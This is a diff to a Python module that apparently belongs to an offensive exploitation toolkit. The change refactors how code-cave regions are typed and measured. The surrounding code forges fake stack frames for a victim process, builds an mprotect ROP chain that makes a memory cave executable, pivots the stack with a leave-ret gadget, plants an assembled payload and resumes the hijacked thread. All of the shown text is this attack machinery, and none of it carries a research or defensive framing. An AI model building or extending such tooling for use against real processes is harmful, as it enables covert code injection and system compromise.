@@ -14,7 +14,7 @@ from __future__ import annotations
 from dataclasses import dataclass
 
 from . import caves, explorer, gadgets, machine
-from .memspace import PAGE_SIZE, AddressSpace, MemoryFault
+from .memspace import PAGE_SIZE, AddressSpace, MemoryFault, PageRun
 from .probe import WRITABLE
 
 
@@ -60,7 +60,7 @@ class FakeFrameImage:
     there; and ``stop_rsp`` is where rsp stands once the pivot is done.
     """
 
-    cave: caves.CaveRegion
+    cave: PageRun
     words: tuple[gadgets.ChainWord, ...]
     payload: bytes
     payload_addr: int | None
@@ -97,7 +97,7 @@ def locate_victim_frame(pm: explorer.PageMap, stack_ptr: int) -> VictimFrame:
 def forge_fake_frame(
     victim: VictimFrame,
     catalog: gadgets.GadgetCatalog,
-    cave_list: list[caves.CaveRegion],
+    cave_list: list[PageRun],
     variant: str,
     marker_value: int | None,
 ) -> FakeFrameImage:
@@ -123,7 +123,7 @@ def forge_fake_frame(
         need_len = payload_off + machine.payload_len(payload_off) + 8
     cave = caves.select_cave(cave_list, need_len)
     chain = gadgets.build_mprotect_chain(
-        catalog, cave.start, cave.length, machine.PROT_RWX, variant)
+        catalog, cave.start, cave.end - cave.start, machine.PROT_RWX, variant)
     epilogue = catalog.lowest("leave-ret")
     if epilogue is None:
         raise gadgets.MissingGadgetError(["leave-ret"])
@@ -134,7 +134,7 @@ def forge_fake_frame(
                               stop_rsp=cave.start + frame_len)
     payload_addr = cave.start + payload_off
     words.append(gadgets.ChainWord(payload_addr, "resume-address"))
-    marker = (cave.start + cave.length - 8, marker_value)
+    marker = (cave.end - 8, marker_value)
     payload = machine.assemble_payload(
         (cave.start, payload_off), marker,
         victim.resume_rsp, victim.saved_rbp, victim.saved_rip,
